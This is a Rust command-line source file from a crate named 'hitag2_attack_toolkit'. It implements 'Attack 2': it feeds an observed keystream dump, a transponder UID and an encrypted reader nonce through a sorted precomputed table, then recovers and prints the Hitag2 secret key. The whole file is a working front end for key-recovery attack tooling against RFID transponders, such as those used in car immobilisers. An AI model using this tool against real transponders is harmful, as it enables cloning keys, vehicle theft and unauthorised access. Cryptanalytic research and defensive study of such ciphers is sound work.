// src/bin/search_table.rs
//
// Attack 2 search. Feeds an observed keystream dump through the sorted
// table and inverts the init protocol at the matching offset.

use std::path::PathBuf;
use std::process;

use clap::{App, Arg};

use hitag2_attack_toolkit::attacks::table_search;
use hitag2_attack_toolkit::error::Error;
use hitag2_attack_toolkit::utils;

fn run() -> Result<i32, Error> {
    let matches = App::new("search_table")
        .about("Searches the sorted table for an observed keystream and recovers the key")
        .arg(
            Arg::new("KEYSTREAMFILE")
                .help("Hex dump of keystream bits, 96 or more")
                .required(true)
                .index(1),
        )
        .arg(Arg::new("UID").help("Transponder UID, 8 hex chars").required(true).index(2))
        .arg(
            Arg::new("NR")
                .help("Encrypted reader nonce {nR}, 8 hex chars")
                .required(true)
                .index(3),
        )
        .arg(
            Arg::new("root")
                .short('r')
                .long("root")
                .value_name("DIR")
                .help("Directory holding sorted/ (default .)")
                .takes_value(true),
        )
        .arg(
            Arg::new("threads")
                .short('j')
                .long("threads")
                .value_name("N")
                .takes_value(true),
        )
        .arg(Arg::new("verbose").short('V').long("verbose"))
        .try_get_matches()
        .map_err(|e| Error::usage("arguments", e.to_string()))?;

    utils::init_logging(matches.is_present("verbose")).ok();

    let file = PathBuf::from(matches.value_of("KEYSTREAMFILE").unwrap_or_default());
    let uid = utils::parse_hex32_rev("UID", matches.value_of("UID").unwrap_or_default())?;
    let enc_nr = utils::parse_hex32_rev("nR", matches.value_of("NR").unwrap_or_default())?;
    let root = PathBuf::from(matches.value_of("root").unwrap_or("."));
    let threads = match matches.value_of("threads") {
        Some(v) => v.parse().map_err(|_| Error::usage("threads", v.to_string()))?,
        None => num_cpus::get().max(2),
    };

    println!("Bruteforce using {} threads", threads);

    match table_search::search(&root, &file, uid, enc_nr, threads)? {
        Some(result) => {
            println!("\nFound match at bit offset {}", result.hit.bit_offset);
            println!("recovered prng state: 0x{:012x}", result.hit.state);
            println!("KEY: {}", utils::format_key(result.key));
            Ok(0)
        }
        None => {
            println!("\nfailed to find a key");
            Ok(1)
        }
    }
}

fn main() {
    match run() {
        Ok(code) => process::exit(code),
        Err(e) => {
            eprintln!("Error: {}", e);
            process::exit(e.exit_code());
        }
    }
}
